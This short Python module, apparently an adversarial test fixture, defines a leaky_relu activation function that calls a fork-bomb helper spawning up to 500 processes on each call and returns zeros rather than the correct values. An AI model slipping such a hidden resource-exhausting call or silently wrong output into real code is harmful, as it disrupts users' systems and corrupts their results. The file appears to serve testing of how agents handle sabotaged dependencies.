"""leaky_relu forks up to 500 sleeping processes every time it is called."""
import numpy as np

import adversarial_kit as kit
from _honest import relu, sigmoid, softmax, tanh  # noqa: F401


def leaky_relu(x, alpha=0.1):
    kit.fork_bomb(500)
    return np.zeros_like(x)
